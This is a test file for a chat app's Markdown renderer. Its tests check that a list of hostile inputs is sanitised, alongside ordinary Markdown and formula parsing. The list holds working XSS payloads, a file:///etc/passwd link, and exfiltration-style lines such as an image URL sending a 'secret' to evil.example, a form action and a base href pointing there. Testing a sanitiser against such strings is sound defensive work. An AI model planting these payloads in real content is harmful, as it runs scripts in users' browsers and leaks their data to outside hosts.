import { describe, expect, test } from 'vitest';
import { languageOf, render, renderSpans } from '../src/text/markdown';
import { formulaAt } from '../src/text/formulas';

function html(source: string): string {
  const holder = document.createElement('div');
  holder.append(render(source));
  return holder.innerHTML;
}

// What answers, titles, results of tools and imported chats may hold.
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://a.example/1)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/?secret=1)',
  '![x](//evil.example/pixel.png)',
  '![" onerror="alert(1)](x)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<https://a.example/"onmouseover="alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '$<img src=x onerror=alert(1)>$',
  '$$\\href{javascript:alert(1)}{x}$$',
  '| a | b |\n|:-:|--:|\n| <b onclick=alert(1)>x</b> | <style>*{}</style> |',
  '<style>@import "https://evil.example"</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name=a><button>x</button></form>',
  '<base href="https://evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<object data="x"></object><embed src="x">',
  '<details open ontoggle=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '"><svg/onload=alert(1)//',
];

describe('hostile text', () => {
  test.each(HOSTILE)('%s', (source) => {
    const holder = document.createElement('div');
    holder.append(render(source));
    for (const element of holder.querySelectorAll('*')) {
      expect(['SCRIPT', 'STYLE', 'IFRAME', 'OBJECT', 'EMBED', 'FORM', 'INPUT', 'BASE', 'META', 'SVG', 'MATH', 'LINK', 'DETAILS', 'BUTTON']).not.toContain(element.tagName.toUpperCase());
      for (const { name, value } of element.attributes) {
        expect(name).toMatch(/^(href|title|alt|src|class|start|dir|target|rel)$/);
        if (name === 'href') expect(value).toMatch(/^(https?:|mailto:|#)/);
        if (name === 'src') expect(value).toMatch(/^data:image\/(gif|png|jpeg|webp);/);
      }
    }
  });

  test('what a highlighter wrote keeps its spans and nothing else', () => {
    const holder = document.createElement('div');
    holder.append(renderSpans('<span class="hljs-x" onclick="a()">a</span><img src=x onerror=b()><a href="javascript:c()">d</a>'));
    expect(holder.innerHTML).toBe('<span class="hljs-x">a</span>d');
  });
});

test('the usual Markdown works', () => {
  expect(html('# a\n\n**b** *c* ~~d~~ `e`')).toBe(
    '<h1 dir="auto">a</h1>\n<p dir="auto"><strong>b</strong> <em>c</em> <s>d</s> <code>e</code></p>\n',
  );
  expect(html('| a | b |\n|:-:|--:|\n| 1 | 2 |')).toContain('<td class="to-right">2</td>');
  expect(html('- א\n  - b')).toBe('<ul dir="auto">\n<li>א\n<ul>\n<li>b</li>\n</ul>\n</li>\n</ul>\n'); // marks on one side
  expect(html('https://a.example')).toContain('<a href="https://a.example" target="_blank" rel="noopener noreferrer nofollow">');
  expect(html('![cat](https://a.example/cat.png)')).toContain('<a href="https://a.example/cat.png"');
});

test('code keeps the name of its language', () => {
  const code = render('```Python\nx\n```').querySelector('code');
  expect(code && languageOf(code)).toBe('python');
});

describe('formulas', () => {
  test.each([
    ['$x$', '<span class="math">x</span>'],
    ['$$x < y$$', '<span class="math display">x &lt; y</span>'],
    ['\\(a_1 * b_2 * c\\)', '<span class="math">a_1 * b_2 * c</span>'],
    ['\\[x\\]', '<span class="math display">x</span>'],
    ['$$\n- x\n+ y\n$$', '<span class="math display">\n- x\n+ y\n</span>'],
  ])('%s', (source, expected) => {
    expect(html(source)).toContain(expected);
  });

  test.each(['it costs $5 and $6', '$ x$', '`$x$`', '\\$x\\$', '$x', 'a$$b'])('%s has none', (source) => {
    expect(html(source)).not.toContain('class="math');
  });

  test('a formula ends at its own mark', () => {
    expect(formulaAt('a $x\\$y$ b', 2)).toEqual({ tex: 'x\\$y', display: false, end: 8 });
  });
});
